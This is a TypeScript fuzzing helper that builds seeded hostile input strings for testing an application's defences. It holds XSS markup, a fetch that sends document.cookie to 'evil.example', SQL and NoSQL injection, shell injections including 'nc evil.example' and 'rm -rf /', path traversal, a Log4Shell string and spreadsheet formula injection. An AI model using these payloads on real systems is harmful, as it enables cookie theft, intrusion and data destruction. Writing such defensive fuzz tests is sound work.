/** Thousands of texts that an attacker would type, generated from a seed. */
import fc from 'fast-check';
import { distinctSamples } from './distinct-samples.ts';

const ELEMENTS = [
  'script',
  'img',
  'svg',
  'iframe',
  'style',
  'math',
  'details',
  'base',
  'meta',
  'object',
  'a',
  'template',
];
const HANDLERS = ['onerror', 'onload', 'onfocus autofocus', 'ontoggle open', 'onbegin', 'onpointerover'];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'data:text/html,',
  'vbscript:',
  '//evil.example/',
  ' \u0001javascript:',
];
const CODE = ['window.hacked=1', 'alert`1`', 'fetch("//evil.example/"+document.cookie)', 'eval(name)'];

const markup = fc
  .tuple(
    fc.constantFrom(...ELEMENTS),
    fc.constantFrom(...HANDLERS),
    fc.constantFrom(...CODE),
    fc.constantFrom('"', "'", '`', ''),
    fc.constantFrom('', '"><', "'></", '-->', '</textarea>', ']]>', '</title>'),
  )
  .map(([element, handler, code, quote, before]) => {
    return `${before}<${element} src=x ${handler}=${quote}${code}${quote}>${code}</${element}>`;
  });

const links = fc.tuple(fc.constantFrom(...SCHEMES), fc.constantFrom(...CODE)).map((parts) => parts.join(''));

const templates = fc
  .tuple(
    fc.constantFrom(['{{', '}}'], ['$' + '{', '}'], ['<%=', '%>'], ['#{', '}'], ['[[', ']]'], ['{%', '%}']),
    fc.constantFrom('7*7', 'constructor.constructor("return this")()', '__proto__.x=1', 'config.items()'),
  )
  .map(([[before, after], code]) => `${before}${code}${after}`);

const databases = fc.constantFrom(
  "' OR '1'='1' --",
  '1; DROP TABLE quotes',
  '{"$gt":""}',
  '{"S":"x"}',
  'attribute_exists(id)',
  '#id = :id OR size(:a) > :b',
  "UNION SELECT password FROM users WHERE 'a'='a",
);

const shells = fc.constantFrom(
  '$(reboot)',
  '`id`',
  '| nc evil.example 1',
  '; rm -rf /',
  '%00%0d%0aSet-Cookie: a=1',
  'x\r\nBcc: all@example.com\r\n\r\nbody',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '$' + '{jndi:ldap://evil.example/a}',
);

const formulas = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t=', '\r='),
    fc.constantFrom('cmd|" /C calc"!A0', 'HYPERLINK("//e")', '1+1'),
  )
  .map((parts) => parts.join(''));

const json = fc.constantFrom(
  '"}],"quotes":[{"id":"forged"}]}',
  '\\u003cscript\\u003e',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"isAdmin":true}}',
  '\\',
  '\\"',
  'null',
  'undefined',
  'NaN',
  '-0',
);

const characters = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 80 }),
  fc
    .array(
      fc.constantFrom(
        '\u0000',
        '\u001B[31m',
        '\u0085',
        '\u202E',
        '\u2066',
        '\u200B',
        '\uFEFF',
        '\u2028',
        '\uD800',
        '\u{E0041}',
        '\u0301',
        '👩‍👩‍👧',
      ),
      { minLength: 1, maxLength: 30 },
    )
    .map((parts) => parts.join('')),
);

const long = fc
  .tuple(
    fc.constantFrom('W', '\n', ' ', '\u0301', '<b>', '((', '%', 'a@', '漢'),
    fc.integer({ min: 100, max: 2_100 }),
  )
  .map(([text, times]) => text.repeat(times));

/** Encodings and disguises of one attack. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replace(/[<>"'&]/g, (character) => `&#${character.charCodeAt(0)};`),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => [...text].join('\u200B'),
  (text) => `Ana ${text}`,
  (text) => `${text}\n${text}`,
  (text) => `\u202E${text}\u202C`,
  (text) => JSON.stringify(text),
];

const attacks = fc.oneof(markup, links, templates, databases, shells, formulas, json, characters, long);

/** At most two attacks in one text, since two are longer than most fields. */
const payload = fc
  .tuple(fc.array(attacks, { minLength: 1, maxLength: 2 }), fc.constantFrom(...DISGUISES))
  .map(([parts, disguise]) => disguise(parts.join(' ')));

/** Hostile texts of which no two are alike, the same for the same seed. */
export function hostilePayloads({ seed, count }: { seed: number; count: number }): readonly string[] {
  return distinctSamples(payload, { seed, count });
}
